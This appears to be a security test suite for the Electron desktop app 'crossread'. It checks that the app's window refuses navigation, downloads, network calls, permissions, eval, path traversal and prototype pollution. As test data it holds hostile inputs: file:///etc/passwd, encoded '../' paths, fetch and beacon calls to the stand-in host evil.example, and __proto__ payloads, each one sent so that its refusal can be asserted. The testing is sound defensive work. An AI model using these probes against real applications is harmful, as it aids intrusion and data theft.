/** The attacks that a page in the desktop window could try, tried from the page itself and from strangers beside it. */
import { join } from 'node:path'
import { expect, folderButton } from '../fixtures.js'
import { root } from '../running-app.js'
import { test, watchLinksOut } from './desktop.js'

const refusals =
  /Content Security Policy|violates|Refused|Not allowed|Failed to load|ERR_|net::|request to|Permission|blocked|Trusted/i

test('the window is as hard as it can be', async ({ desktop }) => {
  const settings = await desktop.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences: () => Record<string, unknown>
    }
    return contents.getLastWebPreferences()
  })
  expect(settings).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true })
})

test('the page has neither Node nor Electron, only the bridge', async ({ desktop, window }) => {
  expect(desktop.windows()).toHaveLength(1)
  const seen = await window.evaluate(() => ({
    bridge: Object.keys((globalThis as unknown as { crossread: object }).crossread).sort(),
    others: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in globalThis),
  }))
  expect(seen).toEqual({ bridge: ['drop', 'invoke', 'listen'], others: [] })
})

test('the page stays, opens nothing, and embeds nothing', async ({ desktop, window, trouble }) => {
  trouble.expect(refusals)
  await expect(folderButton(window)).toBeVisible()
  const opened = await watchLinksOut(desktop)
  await window.evaluate(() => Object.assign(globalThis, { stayed: true }))
  for (const url of [
    'https://evil.example/',
    'file:///etc/passwd',
    'data:text/html,x',
    'app://other/',
    'javascript:1',
  ]) {
    await window.evaluate((address) => {
      globalThis.open(address)
      location.href = address
      const frame = document.createElement('iframe')
      frame.src = address
      document.body.append(frame)
      document.body.append(document.createElement('webview'))
    }, url)
  }
  // Whatever would come of it has had its time.
  await window.waitForTimeout(1000)
  expect(window.url()).toBe('app://crossread/')
  expect(await window.evaluate(() => 'stayed' in globalThis)).toBe(true)
  // A frame that was refused is empty or shows Chromium's own page of an error.
  const framed = window.frames().map((frame) => frame.url())
  expect(framed.filter((url) => /^(https?|file|data|app:\/\/other)/.test(url))).toEqual([])
  expect(desktop.windows()).toHaveLength(1)
  expect(await opened()).toEqual([])
})

test('a page that is redirected or gets a webview is refused both', async ({ desktop }) => {
  const refused = await desktop.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]!.webContents
    const isRefused = (name: string): boolean => {
      let prevented = false
      const details = { url: 'https://evil.example/', isMainFrame: true, preventDefault: () => (prevented = true) }
      contents.emit(name, details, {}, {})
      return prevented
    }
    return ['will-redirect', 'will-attach-webview', 'will-frame-navigate'].map(isRefused)
  })
  expect(refused).toEqual([true, true, true])
})

test('a page downloads nothing by itself', async ({ desktop, window, trouble }) => {
  trouble.expect(refusals)
  await expect(folderButton(window)).toBeVisible()
  await desktop.evaluate(({ session }) => {
    const downloads: boolean[] = []
    Object.assign(globalThis, { downloads })
    session.defaultSession.on('will-download', (event) => void downloads.push(event.defaultPrevented))
  })
  await window.evaluate(() => {
    const address = URL.createObjectURL(new Blob(['x']))
    Object.assign(document.createElement('a'), { href: address, download: 'x.exe' }).click()
  })
  const downloads = () =>
    desktop.evaluate(() => (globalThis as unknown as { readonly downloads: readonly boolean[] }).downloads)
  await expect.poll(downloads).toEqual([true])
})

test('a link that is clicked goes to the system’s browser, if it is plainly a web address', async ({
  desktop,
  window,
  trouble,
}) => {
  trouble.expect(refusals)
  const opened = await watchLinksOut(desktop)
  // The true one comes last: when it has arrived, so would the others have.
  for (const href of [
    'file:///etc/passwd',
    'https://me:word@outlet.example/',
    'smb://x/y',
    'https://outlet.example/a',
  ]) {
    await window.evaluate((address) => {
      document.querySelector('#tried')?.remove()
      const link = Object.assign(document.createElement('a'), { id: 'tried', href: address, target: '_blank' })
      link.textContent = 'tried'
      link.style.cssText = 'position:fixed;top:0;left:0;z-index:9999'
      document.body.append(link)
    }, href)
    await window.locator('#tried').click()
  }
  await expect.poll(opened).toEqual(['https://outlet.example/a'])
})

test('no path of the scheme leads out of the window’s files', async ({ desktop, window, trouble }) => {
  trouble.expect(refusals)
  expect(desktop.windows()).toHaveLength(1)
  const statuses = await window.evaluate(async () => {
    const paths = ['/../../package.json', '/%2e%2e/%2e%2e/package.json', '/%252e%252e%252fpackage.json', '/..%5cpackage.json', '//etc/passwd', '/C:/x.js'] // prettier-ignore
    return Promise.all(paths.map(async (path) => (await fetch(`app://crossread${path}`)).status))
  })
  expect(new Set(statuses)).toEqual(new Set([404]))
})

test('nothing is reached over the network, and every permission is denied', async ({ desktop, window, trouble }) => {
  trouble.expect(refusals)
  expect(desktop.windows()).toHaveLength(1)
  const outcome = await window.evaluate(async () => {
    const tried = await fetch('https://evil.example/').then(
      () => 'reached',
      () => 'refused',
    )
    const beacon = navigator.sendBeacon('https://evil.example/', 'x')
    const place = await new Promise((done) => {
      navigator.geolocation.getCurrentPosition(
        () => done('given'),
        () => done('denied'),
      )
    })
    const camera = await navigator.mediaDevices.getUserMedia({ video: true }).then(
      () => 'given',
      () => 'denied',
    )
    const states = await Promise.all(
      (['notifications', 'geolocation', 'clipboard-read'] as const).map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state), // prettier-ignore
    )
    return { tried, beacon: typeof beacon, place, camera, states }
  })
  expect(outcome).toMatchObject({ tried: 'refused', place: 'denied', camera: 'denied' })
  expect(outcome.states).toEqual(['denied', 'denied', 'denied'])
})

test('code is not made from text', async ({ window, desktop, trouble }) => {
  trouble.expect(refusals)
  expect(desktop.windows()).toHaveLength(1)
  // What a debugger runs may evaluate text, whatever the policy says; what the page itself runs later may not.
  const outcome = await window.evaluate(
    () =>
      new Promise((done) => {
        const attempt = (act: () => unknown): string => {
          try {
            act()
            return 'done'
          } catch {
            return 'refused'
          }
        }
        setTimeout(() =>
          done([
            attempt(() => (0, eval)('1')),
            // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- that it is refused is what is tried
            attempt(() => new Function('return 1')()),
            attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
          ]),
        )
      }),
  )
  expect(outcome).toEqual(['refused', 'refused', 'refused'])
})

test('another window with the same bridge is not answered', async ({ desktop }) => {
  const answer = await desktop.evaluate(
    async ({ BrowserWindow }, preload) => {
      const stranger = new BrowserWindow({
        show: false,
        webPreferences: { preload, sandbox: true, contextIsolation: true },
      })
      await stranger.loadURL('app://crossread/')
      const given = (await stranger.webContents.executeJavaScript('crossread.invoke("app.info", {})')) as {
        ok: boolean
      }
      stranger.destroy()
      return given
    },
    join(root, 'out/preload/index.cjs'),
  )
  expect(answer.ok).toBe(false)
})

test('an input that reaches for a prototype changes none', async ({ desktop, window }) => {
  await expect(folderButton(window)).toBeVisible()
  const changed = await window.evaluate(async () => {
    const { invoke } = (globalThis as unknown as { crossread: { invoke: (name: unknown, input: unknown) => Promise<unknown> } }).crossread // prettier-ignore
    await invoke('search', JSON.parse('{"query": "x", "__proto__": {"polluted": true}}'))
    return 'polluted' in {}
  })
  expect(changed).toBe(false)
  expect(await desktop.evaluate(() => 'polluted' in {})).toBe(false)
})

test('calls that are too large, too deep or of a wrong kind are refused as data', async ({ desktop, window }) => {
  expect(desktop.windows()).toHaveLength(1)
  const answers = await window.evaluate(async () => {
    const { invoke } = (globalThis as unknown as { crossread: { invoke: (name: unknown, input: unknown) => Promise<{ ok: boolean }> } }).crossread // prettier-ignore
    let deep: unknown = {}
    for (let depth = 0; depth < 100; depth += 1) deep = { deep }
    const tries: readonly (readonly [unknown, unknown])[] = [
      ['search', { query: 'x'.repeat(6_000_000) }],
      ['search', deep],
      ['search', new Map([['query', 'x']])],
      ['search', { query: 'x', constructor: { prototype: { admin: true } } }],
      ['folder.open', { path: '/etc' }],
      ['__proto__', {}],
      [7, {}],
    ]
    return Promise.all(tries.map(async ([name, input]) => (await invoke(name, input)).ok))
  })
  expect(answers).toEqual(Array(7).fill(false))
})
